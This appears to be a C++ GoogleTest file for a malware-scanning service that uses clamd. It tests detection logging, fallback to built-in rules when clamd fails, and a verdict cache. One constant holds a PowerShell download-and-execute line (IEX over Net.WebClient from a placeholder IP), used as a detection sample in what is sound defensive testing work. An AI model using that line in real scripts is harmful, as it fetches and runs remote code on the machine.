// The service with clamd behind it: detections by a real clamd through the
// pipe, with the engine and the rule in the log; a clamd that fails (a
// stand-in in this process) costing one scan within the provider's budget
// and then left alone; the verdict cache answering without clamd.
#include "testkit/stand_in_clamd.h"
#include "tests/service/service_harness.h"

#include <gtest/gtest.h>

#include <cstdio>

namespace {

const std::string Marker = "KESTROV-TEST-MARKER-5E2B9C";
const std::string DownloaderScript =
    "$u = 'http://198.51.100.7/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n";
const std::string CleanScript =
    "Get-ChildItem -Path C:\\Temp | Where-Object { $_.Length -gt 0 } | Select-Object Name\r\n";
// The provider's whole budget: a verdict after this is lost.
constexpr ULONGLONG ProviderBudgetMs = 1500;

std::wstring FixturePort() {
  FILE* file = fopen(KESTROV_CLAMD_PORT_FILE, "r");
  if (file == nullptr) return std::wstring();
  char port[16] = {};
  const bool read = fgets(port, sizeof port, file) != nullptr;
  fclose(file);
  std::wstring text;
  for (const char* c = port; read && *c >= '0' && *c <= '9'; ++c) text.push_back(static_cast<wchar_t>(*c));
  return text;
}

std::wstring Wide(const std::string& ascii) { return std::wstring(ascii.begin(), ascii.end()); }

struct Scanned {
  int64_t verdict;
  ULONGLONG ms;
  std::map<std::string, JsonValue> line;
};

// Scans `content` and returns the verdict, the time it took and the log line
// it got (the `index`th line of the log).
Scanned ScanAndLog(ReferenceService& service, const Bytes& content, size_t index,
                   bool truncated = false) {
  ScanRequest request;
  request.content = content;
  request.truncated = truncated;
  Scanned scanned;
  const ULONGLONG started = GetTickCount64();
  scanned.verdict = Scan(request);
  scanned.ms = GetTickCount64() - started;
  const auto lines =
      WaitForLogLines([&] { return ReadTextFile(service.PathOf(L"scans.log")); }, index + 1);
  if (lines.size() > index) ParseFlatJson(lines[index], &scanned.line);
  return scanned;
}

TEST(ServiceEngineTest, RealClamdJudgesBesideTheRulesAndTheLogNamesTheEngine) {
  const std::wstring port = FixturePort();
  ASSERT_FALSE(port.empty()) << "no clamd: the clamd fixture did not run";
  ReferenceService service;
  ASSERT_TRUE(service.Start({L"--clamd", L"127.0.0.1:" + port, L"--log",
                             service.PathOf(L"scans.log"), L"--cache-entries", L"0"}));
  Bytes large(8 * 1024 * 1024 - Marker.size(), 'a');
  for (char c : Marker) large.push_back(static_cast<BYTE>(c));
  struct Case {
    const char* name;
    Bytes content;
    int64_t verdict;
    const char* engine;  // null: none
    const char* rule;
    const char* clamd;
  };
  const Case cases[] = {
      {"marker (.ndb)", AsBytes("x " + Marker + " x"), 1, "clamd",
       "Kestrov.Test.Marker.UNOFFICIAL", "found Kestrov.Test.Marker.UNOFFICIAL"},
      {"UTF-16LE downloader script (YARA)", Utf16(DownloaderScript), 1, "clamd",
       "YARA.Kestrov_PS_Downloader.UNOFFICIAL", "found YARA.Kestrov_PS_Downloader.UNOFFICIAL"},
      {"clean script", Utf16(CleanScript), 0, nullptr, nullptr, "clean"},
      {"test file (built-in rule)", AsBytes(EicarText()), 1, "rules", EicarRule, "clean"},
      {"8 MiB streamed", large, 1, "clamd", "Kestrov.Test.Marker.UNOFFICIAL",
       "found Kestrov.Test.Marker.UNOFFICIAL"},
  };
  size_t index = 0;
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    Scanned scanned = ScanAndLog(service, c.content, index++);
    EXPECT_EQ(scanned.verdict, c.verdict);
    EXPECT_EQ(scanned.line["engine"].kind,
              c.engine ? JsonValue::Kind::String : JsonValue::Kind::Null);
    if (c.engine) {
      EXPECT_EQ(scanned.line["engine"].text, c.engine);
    }
    if (c.rule) {
      EXPECT_EQ(scanned.line["rule"].text, c.rule);
    }
    EXPECT_EQ(scanned.line["clamd"].text, c.clamd);
    EXPECT_FALSE(scanned.line["cached"].flag);
  }
}

TEST(ServiceEngineTest, WithoutClamdTheLogSaysSoAndNothingChanges) {
  ReferenceService service;
  ASSERT_TRUE(service.Start({L"--log", service.PathOf(L"scans.log")}));
  Scanned scanned = ScanAndLog(service, AsBytes(EicarText()), 0);
  EXPECT_EQ(scanned.verdict, 1);
  EXPECT_EQ(scanned.line["engine"].text, "rules");
  EXPECT_EQ(scanned.line["clamd"].kind, JsonValue::Kind::Null);
}

struct FailureCase {
  const char* name;
  StandInClamd::Behaviour behaviour;
  const char* reply;
  bool closedPort;
  const char* said;  // in the log's clamd field
};

class ClamdFailureTest : public testing::TestWithParam<FailureCase> {};

TEST_P(ClamdFailureTest, BuiltInVerdictStandsWithinTheBudgetThenClamdIsLeftAlone) {
  const FailureCase& c = GetParam();
  StandInClamd clamd;
  ASSERT_TRUE(clamd.Start());
  clamd.Set(c.behaviour, c.reply);
  const std::string address =
      c.closedPort ? "127.0.0.1:" + std::to_string(ClosedLoopbackPort()) : clamd.address().text;
  ReferenceService service;
  // The default time limit: it must leave room within the provider's budget.
  ASSERT_TRUE(service.Start({L"--clamd", Wide(address), L"--log", service.PathOf(L"scans.log")}));

  Scanned first = ScanAndLog(service, AsBytes(EicarText()), 0);
  EXPECT_EQ(first.verdict, 1) << "the rules' verdict was lost";
  EXPECT_LT(first.ms, ProviderBudgetMs);
  EXPECT_EQ(first.line["engine"].text, "rules");
  EXPECT_EQ(first.line["clamd"].text.rfind("failed: ", 0), 0u) << first.line["clamd"].text;
  EXPECT_NE(first.line["clamd"].text.find(c.said), std::string::npos) << first.line["clamd"].text;
  const int reached = clamd.accepted();

  // The back-off: the next scans do not go near clamd and are not slowed.
  for (size_t i = 1; i <= 3; ++i) {
    Scanned next = ScanAndLog(service, AsBytes(CleanScript), i);
    EXPECT_EQ(next.verdict, 0);
    EXPECT_LT(next.ms, 500u);
    EXPECT_EQ(next.line["clamd"].text, "skipped (back-off)");
  }
  EXPECT_EQ(clamd.accepted(), reached);
}

INSTANTIATE_TEST_SUITE_P(
    Clamd, ClamdFailureTest,
    testing::Values(
        FailureCase{"Stopped", StandInClamd::Behaviour::Reply, "", true, "refused"},
        FailureCase{"Stalled", StandInClamd::Behaviour::Stall, "", false, "timed out"},
        FailureCase{"SizeLimitError", StandInClamd::Behaviour::Reply,
                    "INSTREAM size limit exceeded. ERROR", false, "size limit exceeded"},
        FailureCase{"ClosedEarly", StandInClamd::Behaviour::CloseEarly, "", false, "clamd"}),
    [](const testing::TestParamInfo<FailureCase>& info) { return info.param.name; });

class VerdictCacheServiceTest : public testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(clamd.Start());
    clamd.Set(StandInClamd::Behaviour::Reply, "stream: Kestrov.Stand.In FOUND");
  }
  bool Start(std::vector<std::wstring> more) {
    std::vector<std::wstring> arguments = {L"--clamd", Wide(clamd.address().text), L"--log",
                                           service.PathOf(L"scans.log")};
    arguments.insert(arguments.end(), more.begin(), more.end());
    return service.Start(arguments);
  }
  StandInClamd clamd;
  ReferenceService service;
};

TEST_F(VerdictCacheServiceTest, RepeatedContentIsAnsweredWithoutClamdAndTheFlagIsPartOfTheKey) {
  ASSERT_TRUE(Start({}));
  const Bytes content = AsBytes("Write-Host 'same script every time'");
  Scanned first = ScanAndLog(service, content, 0);
  EXPECT_EQ(first.verdict, 1);
  EXPECT_FALSE(first.line["cached"].flag);
  EXPECT_EQ(first.line["engine"].text, "clamd");
  EXPECT_EQ(clamd.accepted(), 1);

  Scanned again = ScanAndLog(service, content, 1);
  EXPECT_EQ(again.verdict, 1);
  EXPECT_TRUE(again.line["cached"].flag);
  EXPECT_EQ(again.line["engine"].text, "clamd");
  EXPECT_EQ(again.line["rule"].text, "Kestrov.Stand.In");
  EXPECT_EQ(again.line["clamd"].kind, JsonValue::Kind::Null);
  EXPECT_EQ(clamd.accepted(), 1) << "the cache did not answer";

  // The same bytes cut short by the provider are another content.
  Scanned truncated = ScanAndLog(service, content, 2, true);
  EXPECT_FALSE(truncated.line["cached"].flag);
  EXPECT_EQ(clamd.accepted(), 2);
  // A clean verdict is kept too.
  clamd.Set(StandInClamd::Behaviour::Reply, "stream: OK");
  Scanned other = ScanAndLog(service, AsBytes("Write-Host 'another'"), 3);
  EXPECT_EQ(other.verdict, 0);
  EXPECT_TRUE(ScanAndLog(service, AsBytes("Write-Host 'another'"), 4).line["cached"].flag);
  // A verdict without clamd's say (clamd failed) is not kept: the same
  // content scanned again is not answered from the cache.
  clamd.Set(StandInClamd::Behaviour::Reply, "INSTREAM size limit exceeded. ERROR");
  const Bytes third = AsBytes("Write-Host 'third'");
  Scanned failed = ScanAndLog(service, third, 5);
  EXPECT_EQ(failed.line["clamd"].text.rfind("failed: ", 0), 0u);
  EXPECT_FALSE(ScanAndLog(service, third, 6).line["cached"].flag);
}

TEST_F(VerdictCacheServiceTest, EntriesExpireAndAReloadEmptiesTheCache) {
  ASSERT_TRUE(Start({L"--cache-ttl-s", L"1"}));
  const Bytes content = AsBytes("Write-Host 'expires'");
  ScanAndLog(service, content, 0);
  EXPECT_TRUE(ScanAndLog(service, content, 1).line["cached"].flag);
  // Past the time to live, the entry is a miss.
  Sleep(1100);
  EXPECT_FALSE(ScanAndLog(service, content, 2).line["cached"].flag);
  EXPECT_TRUE(ScanAndLog(service, content, 3).line["cached"].flag);
  const int before = clamd.accepted();

  ReferenceService command;
  DWORD exitCode = 99;
  ASSERT_TRUE(command.Launch({L"--reload"}));
  ASSERT_TRUE(command.WaitForExit(ClientWaitMs, &exitCode));
  ASSERT_EQ(exitCode, 0u);
  // The reload happens a moment after --reload returns: polled until the
  // service says it reloaded.
  const ULONGLONG giveUp = GetTickCount64() + ClientWaitMs;
  while (service.Stderr().find("reloaded") == std::string::npos && GetTickCount64() < giveUp) {
    Sleep(20);
  }
  EXPECT_FALSE(ScanAndLog(service, content, 4).line["cached"].flag);
  EXPECT_EQ(clamd.accepted(), before + 1);
}

TEST_F(VerdictCacheServiceTest, NoEntriesSwitchesTheCacheOff) {
  ASSERT_TRUE(Start({L"--cache-entries", L"0"}));
  const Bytes content = AsBytes("Write-Host 'uncached'");
  for (size_t i = 0; i < 3; ++i) EXPECT_FALSE(ScanAndLog(service, content, i).line["cached"].flag);
  EXPECT_EQ(clamd.accepted(), 3);
}

}  // namespace
